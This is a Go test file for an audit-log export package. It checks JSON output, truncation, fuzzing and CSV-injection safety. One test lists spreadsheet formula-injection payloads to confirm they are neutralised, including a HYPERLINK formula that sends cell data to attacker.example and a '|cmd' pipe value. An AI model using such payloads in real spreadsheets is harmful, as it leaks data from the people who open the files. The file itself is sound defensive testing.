package format

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"ambit"
)

// JSON has the same values as the log, and nothing in it does anything.
func TestJSON(t *testing.T) {
	for _, spec := range ambit.Catalogue() {
		for _, e := range variants(spec) {
			line, err := AppendJSON([]byte("before"), &e)
			if err != nil {
				t.Fatal(err)
			}
			line = bytes.TrimPrefix(line, []byte("before"))
			inertLine(t, line)
			sameJSON(t, &e, line)
			ascii := ASCII(line)
			sameJSON(t, &e, ascii)
			if i := bytes.IndexFunc(ascii, func(r rune) bool { return r < ' ' || r > '~' }); i >= 0 {
				t.Fatalf("byte %d is not ASCII: %q", i, ascii)
			}
		}
	}
}

func sameJSON(t *testing.T, e *ambit.Event, line []byte) {
	t.Helper()
	plain, err := json.Marshal(e)
	if err != nil {
		t.Fatal(err)
	}
	var want, have any
	if err := json.Unmarshal(plain, &want); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(line, &have); err != nil {
		t.Fatalf("%v: %s", err, line)
	}
	if !reflect.DeepEqual(want, have) {
		t.Fatalf("another value (-want +have):\n%s", cmp.Diff(want, have))
	}
}

func TestShorten(t *testing.T) {
	for i, spec := range ambit.Catalogue() {
		if i%20 != 0 && spec.Kind != ambit.KindAuditErase {
			continue // they differ in nothing that matters here
		}
		e := full(spec, ambit.Deny)
		if same, cut := Shorten(e, 1<<20); cut || !reflect.DeepEqual(same, e) {
			t.Fatalf("%s: cut without need", spec.Kind)
		}
		long := strings.Repeat("ä\u202e\x00😀", 1500)
		for _, s := range []*string{&e.Detail, &e.URL, &e.Intent, &e.Resource, &e.Host, &e.Tool, &e.Rule, &e.Task, &e.Method, &e.Connection} {
			*s = long
		}
		e.Reason = &ambit.Reason{Code: long, Text: long, Remedy: long}
		for range 256 {
			e.Subjects = append(e.Subjects, strings.Repeat("f", 64))
		}
		short, cut := Shorten(e, 4096)
		line, err := AppendJSON(nil, &short)
		if err != nil || !cut || len(ASCII(line)) > 4096 {
			t.Errorf("%s: %d bytes, cut %v, %v", spec.Kind, len(ASCII(line)), cut, err)
		}
		if short.Seq != e.Seq || short.Kind != e.Kind || short.Decision != e.Decision || !strings.HasSuffix(short.Detail, "…") || !utf8.ValidString(short.Detail) {
			t.Errorf("%s: %+v", spec.Kind, short)
		}
		if e.Reason.Text != long {
			t.Errorf("%s: the event itself was changed", spec.Kind)
		}
	}
}

// The cells that spreadsheets take for formulas; OWASP, "CSV Injection", and what
// else LibreOffice and Excel are known to start one with.
func TestCSVHasNoFormula(t *testing.T) {
	for _, cell := range []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM", "|cmd",
		`=HYPERLINK("http://attacker.example/?"&A1,"ok")`, `","=1+1`, "\";=1+1", "\x00=1", "\u200b=1", "\u202e=1", "\ufeff=1", "a\r\n=1+1", "\xff=1",
	} {
		row := appendRow(nil, []string{cell, "last"})
		records, err := csv.NewReader(bytes.NewReader(row)).ReadAll()
		if err != nil || len(records) != 1 || len(records[0]) != 2 || records[0][1] != "last" {
			t.Errorf("%q: %q, %v", cell, records, err)
			continue
		}
		got := strings.TrimLeft(records[0][0], " \u00a0\u3000")
		if strings.ContainsAny(got[:1], "=+-@|\t\r\n") || strings.IndexFunc(got, func(r rune) bool { return !unicode.IsGraphic(r) }) >= 0 {
			t.Errorf("%q: the cell is %q", cell, got)
		}
	}
	if got := string(appendRow(nil, []string{"", `a "b", c`, "ä"})); got != "\"\",\"a \"\"b\"\", c\",\"ä\"\r\n" {
		t.Errorf("ordinary cells: %q", got)
	}
}

func TestCSV(t *testing.T) {
	header, err := csv.NewReader(bytes.NewReader(AppendCSVHeader(nil))).Read()
	if err != nil {
		t.Fatal(err)
	}
	for _, spec := range ambit.Catalogue() {
		for _, e := range variants(spec) {
			row := AppendCSV(nil, logName, &e)
			inertLine(t, bytes.TrimSuffix(row, []byte("\r\n")))
			records, err := csv.NewReader(bytes.NewReader(row)).ReadAll()
			if err != nil || len(records) != 1 || len(records[0]) != len(header) {
				t.Fatalf("%s: %q: %v", spec.Kind, row, err)
			}
			have := map[string]string{}
			for i, name := range header {
				have[name] = records[0][i]
			}
			if have["log"] != logName || have["kind"] != string(spec.Kind) || have["decision"] != e.Decision.String() || have["time"] != e.Time.Format(time.RFC3339Nano) {
				t.Fatalf("%s: %v", spec.Kind, have)
			}
			for field := range strings.FieldsSeq(spec.Fields) {
				if name := map[string]string{"reason": "reason.text"}[field]; name != "" {
					field = name
				}
				if field == "severity" {
					continue // info is written, and only for alerts
				}
				if _, ok := have[field]; !ok {
					t.Fatalf("%s: there is no column %s", spec.Kind, field)
				}
			}
		}
	}
	// every field of the event has a column
	for i := range reflect.TypeFor[ambit.Event]().NumField() {
		name, _, _ := strings.Cut(reflect.TypeFor[ambit.Event]().Field(i).Tag.Get("json"), ",")
		if name != "-" && !strings.Contains(strings.Join(header, " ")+" ", name) {
			t.Errorf("no column for %s", name)
		}
	}
}

func FuzzFormats(f *testing.F) {
	f.Add(hostile, "GET", "api.example.com", "https://api.example.com:8443/a?b", uint8(0), 200)
	f.Add("=1+1", "PURGE", "::1", "%zz", uint8(1), 0)
	s, err := loadSchema("testdata/ocsf-" + OCSFVersion)
	if err != nil {
		f.Fatal(err)
	}
	kinds := ambit.Catalogue()
	f.Fuzz(func(t *testing.T, text, method, host, url string, kind uint8, status int) {
		e := full(kinds[int(kind)%len(kinds)], ambit.Decision(kind%2))
		e.Action, e.Detail, e.Resource, e.Method, e.Host, e.URL, e.Status, e.Rule = ambit.ActionHTTP, text, text, method, host, url, status, text
		line, err := AppendJSON(nil, &e)
		if err != nil {
			t.Fatal(err)
		}
		inertLine(t, line)
		if line, err = (OCSF{}).Append(nil, logName, &e); err != nil {
			t.Fatal(err)
		}
		inertLine(t, line)
		if problems, _ := s.validate(line); len(problems) > 0 {
			t.Fatalf("%v\n%s", problems, line)
		}
		inertLine(t, bytes.TrimSuffix(AppendCSV(nil, logName, &e), []byte("\r\n")))
	})
}
